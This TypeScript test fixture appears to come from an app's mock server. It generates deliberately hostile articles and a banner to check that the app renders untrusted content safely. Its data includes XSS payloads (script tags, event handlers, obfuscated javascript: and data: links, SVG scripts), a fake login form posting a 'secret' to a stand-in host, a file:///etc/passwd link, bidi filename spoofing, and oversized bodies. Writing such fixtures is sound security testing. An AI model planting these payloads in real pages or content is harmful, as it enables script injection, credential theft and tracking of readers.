import type { Article, Banner, BannerType, Section } from './article.ts';

/** Characters of the oversized body. */
const OVERSIZED = 600_000;
/** Depth of the body of nested elements. */
const NESTED = 5_000;
/** Elements of the body that is just small enough to be accepted: 120,000 nodes with their text. */
const CROWDED = 60_000;
/** Text with bidirectional control characters, which make the name seem to end in another extension. */
const BIDI = 'Statement \u202Efdp.exe\u202C \u2066of the month\u2069';
const REMOTE = 'https://tracker.invalid';
const FIRST_ID = 9001;

/** Bodies an attacker could send to harm a reader, by the name of the attack. */
const bodies: Readonly<Record<string, string>> = {
  script:
    '<p>Rates</p><script>window.opened = document.cookie</script><p onclick="alert(1)" onmouseover=alert(2)>Touch me</p>',
  'meta refresh': `<meta http-equiv="refresh" content="0;url=${REMOTE}/login"><base href="${REMOTE}/"><p>One moment</p>`,
  'remote style': `<link rel="stylesheet" href="${REMOTE}/a.css"><style>@import url(${REMOTE}/b.css); body{background:url(${REMOTE}/c.png)}</style><p style="position:fixed;inset:0;background:url(${REMOTE}/d.png)">Cover</p>`,
  'remote picture': `<p><img src="${REMOTE}/pixel.gif" onerror="alert(1)"><img src="//tracker.invalid/two.gif"></p>`,
  srcset: `<picture><source srcset="${REMOTE}/wide.webp 2x"><img srcset="${REMOTE}/a.png 1x, ${REMOTE}/b.png 2x" alt="chart"></picture>`,
  'script link':
    '<p><a href="javascript:alert(document.domain)">Open your position</a> <a href="java\tscript:alert(1)">or here</a> <a href="&#106;avascript:alert(1)">or there</a></p>',
  'file link':
    '<p><a href="smb://tracker.invalid/share">Report</a> <a href="file:///etc/passwd">Figures</a> <img src="\\\\tracker.invalid\\share\\x.png"></p>',
  drawing:
    '<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><script>alert(2)</script><a xlink:href="javascript:alert(3)"><text>Buy</text></a><foreignObject><iframe src="https://tracker.invalid"></iframe></foreignObject></svg>',
  frames: `<iframe src="${REMOTE}"></iframe><object data="${REMOTE}/a.swf"></object><embed src="${REMOTE}/b"><form action="${REMOTE}/take"><input name="secret"><button>Log in</button></form>`,
  bidi: `<p>${BIDI}</p><p>pay to \u200Bpay\u200Bto.invalid</p>`,
  'data address':
    '<p><a href="data:text/html,<script>alert(1)</script>">Table</a><img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9ImFsZXJ0KDEpIi8+"></p>',
  broken: '<p><b>Never closed <i>at all <!-- and a comment <a href="x" title="><script>alert(1)</script>',
  nested: '<div>'.repeat(NESTED) + 'deep' + '</div>'.repeat(NESTED),
  crowded: '<b>.</b>'.repeat(CROWDED),
  oversized: `<p>${'All of it. '.repeat(OVERSIZED / 11)}</p>`,
};

/** Number of characters of a supplied body that are also used as title and summary. */
const HEAD = 200;

/**
 * Returns articles of a section that try to harm the program that shows them, served while the control interface turns
 * them on (R37): one for each attack and one for each supplied body, whose beginning is also its title and summary.
 */
export function hostileArticles(section: Section, now: number, brought: readonly string[] = []): Article[] {
  const builtInArticles = ownArticles(section, now);
  const others = brought.map((body, at) => ({
    ...builtInArticles[0]!,
    id: FIRST_ID + builtInArticles.length + at,
    documentId: `brought-${at}`,
    title: body.slice(0, HEAD),
    summary: body.slice(0, HEAD),
    time: now - (builtInArticles.length + at + 1) * 1000,
    body,
  }));
  return [...builtInArticles, ...others];
}

function ownArticles(section: Section, now: number): Article[] {
  return Object.entries(bodies).map(([what, body], at) => ({
    section,
    id: FIRST_ID + at,
    documentId: `hostile-${what.replaceAll(' ', '-')}`,
    v4Id: null,
    title: what === 'bidi' ? BIDI : `<b>Hostile</b> ${what}`,
    summary: `<img src="${REMOTE}/summary.gif"> ${what}`,
    contentKey: null,
    category: 'Hostile',
    time: now - (at + 1) * 1000,
    priority: 9,
    level: section === 'learn' ? 'Beginner' : null,
    tags: ['<script>alert(1)</script>', 'Hostile'],
    coins: ['BTC'],
    picture: { url: what === 'file link' ? 'smb://tracker.invalid/x.png' : `${REMOTE}/thumb.png`, name: 'x.png' },
    source: 'javascript:alert(4)',
    body,
  }));
}

/** Returns a banner whose texts, link and picture attempt the same attacks. */
export function hostileBanner(type: BannerType, now: number): Banner {
  return {
    id: FIRST_ID,
    documentId: 'hostile-banner',
    type,
    title: BIDI,
    description: '<script>alert(1)</script>You have won',
    cta: '<b>Claim</b>',
    link: 'javascript:alert(5)',
    picture: { url: 'smb://tracker.invalid/banner.png', name: 'banner.png' },
    time: now,
  };
}
